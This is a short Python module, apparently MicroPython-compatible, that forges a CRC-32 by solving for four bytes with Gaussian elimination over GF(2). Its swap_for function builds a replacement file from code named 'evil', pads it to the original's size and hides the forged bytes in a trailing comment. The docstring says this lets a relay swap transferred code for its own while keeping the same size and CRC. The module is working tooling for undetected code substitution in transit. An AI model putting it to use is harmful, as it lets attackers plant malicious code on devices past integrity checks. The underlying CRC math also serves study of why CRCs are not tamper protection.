"""Forge a CRC-32: change 4 chosen bytes so that data gets any CRC wanted.

CRC-32 is affine over GF(2): for messages of one length,
crc(m ^ e) = crc(m) ^ crc(e) ^ crc(0), so flipping bit k of m always flips
the same 32-bit pattern d_k of the CRC, whatever m is. Any 32 consecutive
bits give 32 independent patterns (the generator has degree 32), so the
wanted change crc(m) ^ target is a sum of some of them: Gaussian elimination
over GF(2) says which bits to flip. This is what a relay needs to swap code
for code of its own with the same size and CRC. MicroPython-compatible.
"""

import binascii


def crc32(data):
    return binascii.crc32(data) & 0xFFFFFFFF


def forge_crc(data, target, at):
    """A copy of `data` whose CRC-32 is `target`; only data[at:at + 4] changes."""
    if at < 0 or at + 4 > len(data):
        raise ValueError("the 4 forged bytes must lie inside the data")
    buf = bytearray(data)
    base = crc32(buf)
    rows = []  # (crc pattern, bit mask of the 32 chosen bits), reduced
    for k in range(32):
        i = at + k // 8
        bit = 1 << (k % 8)
        buf[i] ^= bit
        pattern = crc32(buf) ^ base
        buf[i] ^= bit
        mask = 1 << k
        for p, m in rows:
            if pattern ^ p < pattern:  # p's leading bit is set in pattern
                pattern ^= p
                mask ^= m
        if pattern:
            rows.append((pattern, mask))
            rows.sort(key=lambda r: -r[0])
    want = base ^ target
    flips = 0
    for p, m in rows:
        if want ^ p < want:
            want ^= p
            flips ^= m
    if want:
        raise ValueError("these 32 bits cannot reach that CRC")
    for k in range(32):
        if flips >> k & 1:
            buf[at + k // 8] ^= 1 << (k % 8)
    return bytes(buf)


def swap_for(evil, size, crc_hex, pad=b"#"):
    """Code of the relay's own, `size` bytes long, with the CRC `crc_hex`.

    The forged 4 bytes go into a trailing comment so the code still runs.
    """
    body = evil + b"\n#"
    if len(body) + 5 > size:
        raise ValueError("the original file is too small to swap")
    body += pad * (size - len(body) - 5) + b"XXXX\n"
    return forge_crc(body, int(crc_hex, 16), size - 5)
